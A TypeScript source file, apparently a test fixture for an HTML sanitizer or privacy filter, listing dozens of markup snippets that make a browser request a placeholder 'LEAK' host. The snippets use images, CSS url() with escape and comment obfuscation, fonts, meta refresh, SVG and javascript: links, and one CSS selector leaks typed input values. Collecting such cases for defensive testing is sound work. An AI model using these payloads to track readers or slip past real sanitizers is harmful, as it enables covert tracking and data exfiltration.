/** Markup that sends requests. */
export const externalRequests: Record<string, string> = {
  'a picture': '<img src="LEAK/pixel" width="1" height="1">',
  'a picture set': '<img srcset="LEAK/set 1x">',
  'a picture that is lazy': '<img src="LEAK/lazy" loading="eager" fetchpriority="high">',
  'a background': '<table background="LEAK/bg"><tr><td background="LEAK/td">x</td></tr></table>',
  'a style with an address': '<p style="background:url(LEAK/css)">x</p>',
  'a style with an escaped address': '<p style="background:\\75rl(LEAK/esc)">x</p>',
  'a style with an image set': '<p style="background-image:image-set(url(LEAK/is) 1x)">x</p>',
  'a list marker': '<ul style="list-style:url(LEAK/li)"><li>x</li></ul>',
  'a cursor': '<p style="cursor:url(LEAK/cur),auto">x</p>',
  'a style element': '<style>@import url(LEAK/import); body{background:url(LEAK/body)}</style>',
  'a font': '<style>@font-face{font-family:f;src:url(LEAK/font)}p{font-family:f}</style><p>x</p>',
  'a linked style': '<link rel="stylesheet" href="LEAK/sheet">',
  'a prefetch': '<link rel="prefetch" href="LEAK/prefetch"><link rel="preconnect" href="LEAK/pre">',
  'a poster': '<video poster="LEAK/poster"></video>',
  'a track': '<video><track src="LEAK/track" default></video>',
  'an SVG image': '<svg><image href="LEAK/svg"/><use href="LEAK/use#x"/><feImage href="LEAK/fe"/></svg>',
  'a frame': '<iframe src="LEAK/frame"></iframe>',
  'an input picture': '<input type="image" src="LEAK/input">',
  'a picture deep down': `${'<div>'.repeat(200)}<img src="LEAK/deep" alt="x">`,
  'a refresh': '<meta http-equiv="refresh" content="0;url=LEAK/refresh">',
  'a base': '<base href="LEAK/base/"><img src="x.png">',
  'a manifest': '<link rel="manifest" href="LEAK/manifest"><link rel="icon" href="LEAK/icon">',
  'a picture without a scheme': '<img src="//LEAKHOST/slashes"><img src="/slash"><img src="dot.png">',
  'a picture over another protocol':
    '<img src="ftp://LEAKHOST/x"><img src="ws://LEAKHOST/x"><img src="blob:LEAK/x">',
  'a picture with a counter': '<img src="https://shop.example/a.png" attributionsrc="LEAK/attr" alt="x">',
  'a picture of sizes':
    '<img sizes="100vw" srcset="LEAK/1 100w, LEAK/2 200w" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  'a variable that holds an address': '<p style="--x:url(LEAK/var);background:var(--x)">x</p>',
  'a style in comments':
    '<p style="background/**/:/**/u/**/rl(LEAK/com)/**/;background:url/**/(LEAK/com2)">x</p>',
  'a border picture and a mask':
    '<p style="border-image:url(LEAK/bi) 1;mask:url(LEAK/mask);-webkit-mask-image:url(LEAK/wm)">x</p>',
  'a filter and a shape':
    '<p style="filter:url(LEAK/f#x);shape-outside:url(LEAK/so);clip-path:url(LEAK/cp#x);offset-path:url(LEAK/op#x)">x</p>',
  'generated content': '<q style="quotes:none;content:url(LEAK/gc)">x</q>',
  'a cross fade': '<p style="background:-webkit-cross-fade(url(LEAK/cf),url(LEAK/cf2),50%)">x</p>',
  'a style of a page':
    '<style media="all">@namespace x url(LEAK/ns);@font-face{font-family:b;src:url(LEAK/ff)}p::after{content:url(LEAK/af)}</style><p>x</p>',
  'a style that reads what is typed': '<style>input[value^="d"]{background:url(LEAK/read)}</style><p>x</p>',
  'a preload and a module':
    '<link rel="preload" as="image" href="LEAK/pl"><link rel="modulepreload" href="LEAK/mp"><link rel="dns-prefetch" href="//LEAKHOST">',
  'a policy that reports':
    '<meta http-equiv="Content-Security-Policy" content="img-src *; report-uri LEAK/report">',
  'a cookie and a refresh':
    '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="refresh" content="0; javascript:HIT">',
  'a quote with a source':
    '<blockquote cite="LEAK/cite">x</blockquote><q cite="javascript:HIT">x</q><ins cite="LEAK/ins">x</ins>',
  'a head with a profile': '<head profile="LEAK/profile"></head><html manifest="LEAK/appcache">x</html>',
  'a picture in SVG':
    '<svg><pattern><image xlink:href="LEAK/pat"/></pattern><filter><feImage xlink:href="LEAK/fe2"/></filter></svg>',
  'an SVG style':
    '<svg><style>@import "LEAK/svgcss";</style><text style="fill:url(LEAK/fill#x)">x</text></svg>',
  'a video with everything':
    '<video src="LEAK/v2" poster="LEAK/p2" preload="auto" autoplay muted controls><track src="LEAK/t2" default></video>',
  'an object with a fallback':
    '<object data="LEAK/o2" type="image/png"><embed src="LEAK/e2"><img src="LEAK/i2"></object>',
  'an old background':
    '<body background="LEAK/old" bgcolor="red"><table background="LEAK/old2"><tr><th background="LEAK/old3">x</th></tr></table></body>',
  'a lowsrc': '<img lowsrc="LEAK/low" dynsrc="LEAK/dyn" longdesc="LEAK/long" usemap="LEAK/use" alt="x">',
}
